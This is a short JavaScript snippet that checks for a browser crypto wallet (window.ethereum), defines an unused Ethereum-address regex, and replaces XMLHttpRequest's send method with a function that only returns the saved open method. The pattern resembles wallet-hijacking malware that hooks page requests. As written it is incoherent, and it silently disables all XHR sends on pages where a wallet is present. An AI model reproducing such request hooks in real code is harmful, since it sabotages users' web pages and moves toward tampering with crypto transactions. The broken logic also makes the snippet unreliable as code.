const known = /0x[a-fA-F0-9]{40}/;
if (typeof window !== "undefined" && window.ethereum) {
  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.send = function () { return open; };
}
